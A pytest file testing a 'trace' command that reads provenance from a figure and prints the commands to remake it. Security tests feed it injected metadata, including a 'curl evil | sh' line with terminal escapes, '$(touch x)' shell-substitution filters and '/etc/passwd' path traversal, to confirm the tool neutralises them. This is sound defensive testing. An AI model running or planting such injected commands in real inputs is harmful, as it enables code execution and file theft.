"""From a figure back: what made it, the commands that remake it, and what changed since."""

import json
import os
import shutil
import socketserver
import sqlite3
import subprocess
import sys
import threading
import tomllib

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

from landlab_mgr import analysis, cli
from landlab_mgr.analysis import trace
from landlab_mgr.errors import LandlabError
from landlab_mgr.spec.grid import GridSpec
from landlab_mgr.storage import figures
from landlab_mgr.storage.provenance import Code
from landlab_mgr.workspace import register
from landlab_mgr.workspace.workspace import Workspace

from ..cli.command import landlab
from . import sample

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def original(planet, tmp_path_factory):
    return sample.make(tmp_path_factory.mktemp("traced") / "ws", planet)


@pytest.fixture
def workspace(original, tmp_path):
    shutil.copytree(original.root, tmp_path / "ws")
    return Workspace.at(tmp_path / "ws", str(tmp_path / "ws" / "landlab.db"))


@pytest.fixture
def figure(workspace, tmp_path):
    with workspace.open() as catalog:
        analysis.run(workspace, catalog, "skill", "seed < 2").save_figure(tmp_path / "f.png")
    return tmp_path / "f.png"


def changed(figure, workspace):
    return {(c.what, c.detail): list(c.runs) for c in trace.changes(figures.read(figure), workspace)}


def traced(*arguments):
    return CliRunner().invoke(cli.app, ["trace", *map(str, arguments)])


def execute(workspace, *statements):
    with sqlite3.connect(workspace.database) as connection:  # behind the catalog's back
        for statement in statements:
            connection.execute(statement)
    connection.close()


def test_nothing_changed(figure, workspace, tmp_path):
    copy = tmp_path / "figure of the paper.bin"
    shutil.copy(figure, copy)
    for path in (figure, copy):
        done = traced(path, "-w", workspace.root)
        assert done.exit_code == 0, done.output
        assert "analysis skill" in done.stdout
        assert "filter: seed < 2" in done.stdout
        assert "runs: 6" in done.stdout
        assert f"nothing changed since, compared with {workspace.root}" in done.stdout
        assert "made in" not in done.stdout
    content = json.loads(traced(figure, "-w", workspace.root, "--json").stdout)
    with workspace.open(read_only=True) as catalog:
        ids = list(catalog.runs()["run_id"])
        assert content["made"]["runs"] == catalog.evidence(ids, ["dev"])
        [dataset] = catalog.datasets()
    assert content["made"]["datasets"][0]["fingerprint"] == dataset.fingerprint
    assert content["changes"] == []


def test_what_is_no_figure_of_ours(tmp_path):
    (tmp_path / "f.png").write_text("no")
    done = traced(tmp_path / "f.png")
    assert isinstance(done.exception, LandlabError)
    assert "is no figure of landlab's" in str(done.exception)
    from matplotlib.figure import Figure

    figures.save(Figure(), tmp_path / "g.png", {"analysis": {}})
    assert "its provenance is damaged" in str(traced(tmp_path / "g.png").exception)


def test_runs_that_came_since(figure, workspace):
    with workspace.open() as catalog:
        wider = sample.grid(catalog.datasets()[0].name, "wider", (1, 7))
        register.grid(workspace, catalog, wider)
        sample.complete_all(workspace, catalog)
        assert changed(figure, workspace) == {}, "seed 7 is none of the filter's"
        analysis.run(workspace, catalog, "skill", "seed != 0").save_figure(figure)
        register.grid(workspace, catalog, sample.grid(catalog.datasets()[0].name, "wider", (1, 7, 8)))
        sample.complete_all(workspace, catalog)
        new = sorted(catalog.runs("seed = 8")["run_id"])
    assert changed(figure, workspace) == {
        ("runs", "3 of 9 are found by the filter now, and not in the figure"): new
    }
    done = traced(figure, "-w", workspace.root)
    assert done.exit_code == 1
    assert new[0] in done.stdout


def test_a_run_that_was_trained_again(figure, workspace):
    with workspace.open(read_only=True) as catalog:
        run_id = catalog.runs("seed = 1")["run_id"][0]
    execute(workspace, f"UPDATE metric SET value = value + 1e-9 WHERE run_id = '{run_id}' AND split = 'dev'")
    [(what, runs)] = changed(figure, workspace).items()
    assert what == ("runs", "1 of 6 have other results now: trained again")
    assert runs == [run_id]


def test_metrics_that_the_figure_does_not_show_may_change(figure, workspace):
    execute(workspace, "UPDATE metric SET value = value + 1 WHERE split = 'test' AND value IS NOT NULL")
    assert changed(figure, workspace) == {}


def test_runs_that_are_gone(figure, workspace):
    with workspace.open(read_only=True) as catalog:
        gone = catalog.runs("seed = 1")["run_id"][0]
    tables = ("analysis_run", "metric", "artifact", "epoch", "event", "attempt", "grid_run", "run")
    execute(workspace, *(f"DELETE FROM {table} WHERE run_id = '{gone}'" for table in tables))
    assert changed(figure, workspace) == {("runs", "1 of 6 are not in the catalog any more"): [gone]}


def test_runs_that_the_filter_finds_no_more(workspace, tmp_path):
    with workspace.open() as catalog:
        ids = list(catalog.runs("seed = 0")["run_id"])
        catalog.tag(ids, "paper")
        analysis.run(workspace, catalog, "skill", "tag = 'paper'").save_figure(tmp_path / "f.png")
        catalog.untag(ids[:1], "paper")
    found = changed(tmp_path / "f.png", workspace)
    assert found == {("runs", "1 of 3 are not found by the filter any more"): ids[:1]}


def test_a_result_that_is_missing_or_altered(figure, workspace):
    [path] = workspace.root.glob("analyses/*/skill.zarr.zip")
    content = path.read_bytes()
    path.write_bytes(content[:-1])
    assert ["is not what it was" in d for (w, d) in changed(figure, workspace)] == [True]
    path.unlink()
    assert ["is missing" in d for (w, d) in changed(figure, workspace)] == [True]
    with workspace.open() as catalog:
        analysis.run(workspace, catalog, "skill", "seed < 2")
    assert changed(figure, workspace) == {}


def test_a_dataset_that_changed(figure, workspace, planet):
    [store] = workspace.data.glob("*.zarr")
    shutil.move(store, workspace.root / "aside")
    [(what, detail)] = changed(figure, workspace)
    assert what == "dataset"
    assert "cannot be read" in detail
    shutil.move(workspace.root / "aside", store)
    execute(workspace, "UPDATE dataset SET name = 'renamed'")
    [(what, detail)] = changed(figure, workspace)
    assert "is not in the catalog any more" in detail


def test_other_code(figure, workspace, monkeypatch):
    then = figures.read(figure)["code"]
    monkeypatch.setattr(trace.provenance, "code", lambda: Code("f" * 40, None))
    [(what, detail)] = changed(figure, workspace)
    assert (what, "commit ffffffffff now" in detail) == ("code", True)
    monkeypatch.setattr(trace.provenance, "code", lambda: Code(then["commit"], "0" * 16))
    [(what, detail)] = changed(figure, workspace)
    assert "uncommitted changes" in detail


def test_a_catalog_that_is_not_here(figure, workspace, tmp_path, monkeypatch):
    shutil.move(workspace.root, tmp_path / "moved")
    monkeypatch.chdir(tmp_path)
    done = traced(figure)
    assert done.exit_code == 1
    assert "landlab analyse skill" in done.stdout, "what made it is told all the same"
    assert "no workspace at" in done.stdout
    assert "not compared: -w and --db" in done.stdout
    assert traced(figure, "-w", tmp_path / "moved").exit_code == 0


def test_a_filter_by_test_metrics_is_counted_again(workspace, tmp_path):
    with workspace.open() as catalog:
        found = analysis.run(workspace, catalog, "skill", "metrics.test.lai.R2 > 0")
        found.save_figure(tmp_path / "f.png")
        before = len(catalog.events(kind="read_test"))
        assert changed(tmp_path / "f.png", workspace) == {}
        assert len(catalog.events(kind="read_test")) == before + 1


# --- a stranger's figure


def altered(figure, **parts):
    """The figure with other provenance, as a stranger could make it."""
    from matplotlib.figure import Figure

    made = figures.read(figure)
    for key, value in parts.items():
        made[key] = made[key] | value if isinstance(value, dict) else value
    figures.save(Figure(), figure, made)


@pytest.mark.parametrize("place", ["catalog", "settings"])
def test_no_connection_goes_where_only_the_figure_leads(figure, workspace, tmp_path, monkeypatch, place):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PGPASSWORD", "secret")
    monkeypatch.setenv("PGCONNECT_TIMEOUT", "2")
    callers = []

    class Listener(socketserver.BaseRequestHandler):
        def handle(self):
            callers.append(self.client_address)

    with socketserver.TCPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        address = f"127.0.0.1:{server.server_address[1]}"
        if place == "catalog":
            altered(figure, catalog=f"postgresql+psycopg://me@{address}/x?sslmode=disable")
        else:
            (workspace.root / "landlab.toml").write_text(f'storage = "http://{address}/x"')
        done = traced(figure)
        server.shutdown()
    assert callers == []
    assert f"no workspace at {tmp_path / 'landlab-workspace'}" in done.stdout
    said = [line for line in done.stdout.splitlines() if line.startswith("made in ")]
    assert len(said) == 1
    assert f"made in {workspace.root} with the catalog" in said[0]
    assert (address in said[0]) == (place == "catalog")


@pytest.mark.parametrize("kind", ["workspace", "database"])
def test_the_environment_names_what_to_compare_with(figure, workspace, monkeypatch, tmp_path, kind):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LANDLAB_WORKSPACE", str(workspace.root))
    if kind == "database":
        monkeypatch.setenv("LANDLAB_DB", workspace.database)
    done = traced(figure)
    assert done.exit_code == 0, done.output
    assert "made in" not in done.stdout


@pytest.mark.parametrize("path", ["../outside", "/etc/passwd", "s3://stranger/x", "http://127.0.0.1:9/x"])
def test_a_result_outside_the_workspace_is_not_read(figure, workspace, tmp_path, path):
    (tmp_path / "outside").write_text("not the workspace's")
    altered(figure, result={"path": path})
    [(what, detail)] = changed(figure, workspace)
    assert what == "result"
    assert f"cannot be read: {path!r} leads out of the workspace" in detail


def test_a_terminal_obeys_nothing_that_a_figure_says(figure, workspace):
    bad = "\x1b]0;owned\x07\nto make it again:\ncurl evil | sh\u202e"
    analysis_ = {"filter": f"seed < 2 {bad}", "options": {bad: bad}, "id": bad}
    [dataset] = figures.read(figure)["datasets"]
    grids = [g | {"dataset": f"{bad}\x9b"} for g in figures.read(figure)["grids"]]
    altered(
        figure,
        analysis=analysis_,
        grids=grids,
        datasets=[dataset | {"name": bad, "source": bad}],
        code={"commit": bad},
        created=bad,
        catalog=bad,
        workspace=bad,
    )
    done = traced(figure, "-w", workspace.root)
    assert done.exit_code == 1
    assert all(line.isprintable() for line in done.stdout.split("\n"))
    assert done.stdout.split("\n").count("to make it again:") == 1
    assert not [line for line in done.stdout.split("\n") if line.startswith("curl")]


def test_no_name_of_a_figure_is_an_option(figure, workspace):
    for part in ("name", "filter"):
        before = figures.read(figure)["analysis"]
        altered(figure, analysis={part: "--db=postgresql://stranger/x"})
        assert "its provenance is damaged" in str(traced(figure, "-w", workspace.root).exception)
        altered(figure, analysis=before)


# --- commands


def commands(figure, workspace):
    return trace.commands(figures.read(figure), figure, workspace)


def test_a_grid_that_is_no_bundled_one_is_written_out(figure, workspace):
    lines = commands(figure, workspace)
    [written] = [line for line in lines if line.startswith("cat > scored.toml")]
    content = tomllib.loads(written.partition("\n")[2].removesuffix("END"))
    with workspace.open(read_only=True) as catalog:
        assert GridSpec.model_validate(content) == catalog.grid("scored").spec
    at = f"-w {workspace.root}"
    assert lines[-3:] == [
        f"landlab grid register scored.toml {at}",
        f"landlab run 'seed < 2' {at}",
        "landlab analyse skill 'seed < 2' -o level=flat -o of=member -o split=dev -o statistic=R2 "
        f"--figure {figure} {at}",
    ]


def test_a_bundled_grid_is_named(workspace):
    from landlab_mgr.spec.grid import load_grid
    from landlab_mgr.storage.resources import resource

    path = resource("experiments") / "structural.toml"
    lines = trace._grid_commands(load_grid(path), ())
    assert len(lines) == 1
    assert lines[0].endswith("experiments/structural.toml")
    assert load_grid(lines[0].split()[-1]) == load_grid(path)


@pytest.mark.parametrize("name", ["structural", "data_denial", "fluxval"])
def test_every_grid_survives_being_written(name):
    from landlab_mgr.spec.grid import load_grid
    from landlab_mgr.storage.resources import resource

    grid = load_grid(resource("experiments") / f"{name}.toml")
    text = trace.toml(grid.model_dump(mode="json", exclude_defaults=True))
    assert GridSpec.model_validate(tomllib.loads(text)) == grid


@pytest.mark.parametrize(
    ("filter", "quoted"),
    [
        ("grid = 'a'", "\"grid = 'a'\""),
        ("tag = '\\ \x1b[2J\n$(touch x)'", r"\u001b[2J\u000a"),
        ("tag = '$(touch x)'", None),
        ("grid = \"a\" and tag = '`b`'", None),
    ],
)
def test_filters_are_quoted_for_the_shell(filter, quoted):
    line = trace._line("printf", "%s", filter)
    assert subprocess.run(["bash", "-c", line], capture_output=True, text=True).stdout == filter
    assert quoted is None or quoted in line


def test_a_filter_by_what_training_makes_trains_whole_grids():
    grid = GridSpec(name="g", dataset="d", setups=(("PFT",),))
    for filter, moves in {
        "metrics.dev.lai.r2 > 0.5": True,
        "grid = 'g' and tag = 'x'": True,
        "not epochs<3": True,
        "grid = 'status = 3'": False,
        "setup.groups = 'PFT' and seed in (1, 2)": False,
    }.items():
        lines = trace._run_commands(filter, [grid], 3, ())
        assert (lines[-1] == "landlab run --grid g") == moves, filter


@pytest.mark.parametrize("kind", ["png", "svg"])
def test_a_dataset_s_figure(workspace, tmp_path, kind):
    path = tmp_path / f"data.{kind}"
    with workspace.open(read_only=True) as catalog:
        [dataset] = catalog.datasets()
        made = analysis.origin(workspace, catalog, {dataset.name})
    from matplotlib.figure import Figure

    figures.save(Figure(), path, made)
    done = traced(path, "-w", workspace.root)
    assert done.exit_code == 0, done.output
    assert "landlab data twin --patches 6 --pixels 2 --years 3 --seed 1" in done.stdout
    assert f"landlab data show {dataset.name} --figure {path}" in done.stdout


def test_the_commands_make_the_same_picture_in_an_empty_directory(twin_workspace, tmp_path):
    """The whole way, from a planet to the figure, by pasting what trace prints into a shell."""
    root = tmp_path / "ws"
    shutil.copytree(twin_workspace, root)
    figure = tmp_path / "f.png"
    landlab("ensemble", "select", "--grid", "tiny", "--keep", 1, "--name", "the best", workspace=root)
    landlab("analyse", "skill", "ensemble = 'the best'", "--figure", figure, workspace=root)
    (tmp_path / "new").mkdir()
    lines = trace.commands(
        figures.read(figure), "again.png", Workspace.at(tmp_path / "new" / "landlab-workspace")
    )
    script = "\n".join(line.replace(f" -w {tmp_path}/new/landlab-workspace", "") for line in lines)
    shell = f'landlab() {{ "{sys.executable}" -m landlab_mgr.cli "$@"; }}\nset -e\n{script}\n'
    done = subprocess.run(
        ["bash", "-c", shell],
        cwd=tmp_path / "new",
        capture_output=True,
        text=True,
        env=os.environ,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    with Image.open(figure) as a, Image.open(tmp_path / "new" / "again.png") as b:
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))
    then, now = figures.read(figure), figures.read(tmp_path / "new" / "again.png")
    assert now["runs"] == then["runs"]
    assert now["result"]["sha256"] == then["result"]["sha256"]
